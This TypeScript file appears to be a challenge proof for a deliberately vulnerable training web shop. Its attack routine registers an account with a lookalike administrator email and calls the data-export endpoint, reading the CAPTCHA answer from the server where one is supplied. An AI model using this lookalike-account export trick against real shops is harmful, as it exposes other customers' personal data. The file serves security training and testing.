import type { Attacker } from '../attacker/attacker.js'
import type { Login } from '../attacker/client.js'
import { checkOut, openBuyer, putIntoBasket } from '../features/orders.js'
import { ensure, ensureStatus, proof } from '../proof.js'

/** Exports the data of an account; some shops tell the answer of the CAPTCHA themselves. */
async function exportData(me: Attacker, { token }: Login) {
  const captcha = (await me.get('/rest/image-captcha/', { token })).json<{ image: string; answer?: string }>()
  const answer = captcha.answer ?? me.readPicture(captcha.image)
  return me.post('/rest/user/data-export', { format: '1', answer }, { token })
}

/** A customer takes home the own orders. */
async function takesDataHome(me: Attacker): Promise<void> {
  const email = 'collector@juice.example'
  const buyer = await openBuyer(me, email)
  await putIntoBasket(me, buyer, 3)
  const { orderConfirmation } = (await checkOut(me, buyer)).json<{ orderConfirmation: string }>()
  const { userData } = ensureStatus(await exportData(me, buyer), 'an export').json<{ userData: string }>()
  const { orders } = JSON.parse(userData) as { orders: { orderId: string }[] }
  ensure(orders.map(({ orderId }) => orderId).join() === orderConfirmation, `The export has ${userData}`)
}

export const dataExportChallenge = proof({
  attack: async (me) => exportData(me, await me.register('admun@juice-sh.op')),
  honest: takesDataHome,
})
